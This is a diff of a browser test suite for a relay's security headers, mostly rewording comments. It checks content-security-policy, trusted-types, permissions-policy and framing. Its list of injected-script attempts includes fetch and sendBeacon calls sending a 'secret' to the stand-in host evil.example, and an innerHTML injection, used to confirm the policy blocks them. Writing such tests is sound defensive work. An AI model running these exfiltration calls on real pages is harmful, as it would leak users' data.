@@ -20,7 +20,7 @@ const POLICY = [
 ];
 const READS_RELAY = ["connect-src 'self'", "trusted-types 'none'"];
 
-/** The pages with what their policies add to the common one. */
+/** The pages, each with the directives that its policy adds to the common one. */
 const PAGES = [
   ["/", ["connect-src 'none'", "trusted-types 'none'"]],
   ["/verify", ["connect-src 'none'", "trusted-types verify-worker"]],
@@ -38,7 +38,7 @@ const HEADERS = {
   "set-cookie": null,
 };
 
-/** The attempts of a script of a stranger, with the directives that must stop them. */
+/** Attempts of an injected script, each with the directive that must stop it. */
 const ATTEMPTS = [
   ["connect-src", "void fetch('https://evil.example/').catch(() => 0)"],
   ["connect-src", "navigator.sendBeacon('https://evil.example/', 'secret')"],
@@ -54,7 +54,7 @@ const ATTEMPTS = [
   ["require-trusted-types-for", "document.body.innerHTML = '<img src=x>'"],
 ] as const;
 
-/** Runs an attempt inside of a page, and returns the directives that were violated. */
+/** Runs an attempt inside a page, and returns the violated directives. */
 const readViolations = (page: Page, attempt: string) =>
   page.evaluate<string[]>(`new Promise((resolve) => {
     const violated = [];
@@ -80,7 +80,7 @@ describe.skipIf(executablePath === undefined)(
     let browser: Browser;
     let relay: RelayProcess;
     const watch = { messages: [] as string[], requests: [] as string[] };
-    /** The requests that left the browser; those that the policy stopped are none. */
+    /** The requests that left the browser; those that the policy stopped are not included. */
     const answered: string[] = [];
 
     beforeAll(async () => {
@@ -114,7 +114,7 @@ describe.skipIf(executablePath === undefined)(
         expect(policy.toSorted()).toEqual([...POLICY, ...added].toSorted());
         const others = Object.keys(HEADERS).map((name) => [name, headers.get(name)]);
         expect(Object.fromEntries(others)).toEqual(HEADERS);
-        // Every feature that is named is named for no origin.
+        // Each listed feature is allowed for no origin.
         expect(headers.get("permissions-policy")).toMatch(/^[\w-]+=\(\)(, [\w-]+=\(\))*$/);
       },
     );
@@ -132,7 +132,7 @@ describe.skipIf(executablePath === undefined)(
 
     it.each(PAGES)("no other page may show %s in a frame", async (path) => {
       const { page, context } = await openPage("/openapi.json");
-      // The same machine under another name is another origin; this answer of it has no policy.
+      // The same machine under another name is another origin; the answer used here has no policy.
       await page.goto(`${relay.baseUrl.replace("127.0.0.1", "localhost")}/openapi.json`);
       await page.evaluate(
         `new Promise((resolve) => {
@@ -178,7 +178,7 @@ describe.skipIf(executablePath === undefined)(
       await page.click("dialog [type=submit]");
       expect(await page.locator("dialog [name=reason]:invalid").count()).toBe(1);
       const keys: (string | null)[] = [];
-      // The first answer is lost on the way, so the operator sends the act again.
+      // The first answer is lost in transit, so the operator sends the request again.
       await page.route("**/deposit", async (route) => {
         keys.push(await route.request().headerValue("idempotency-key"));
         if (keys.length > 1) return route.continue();
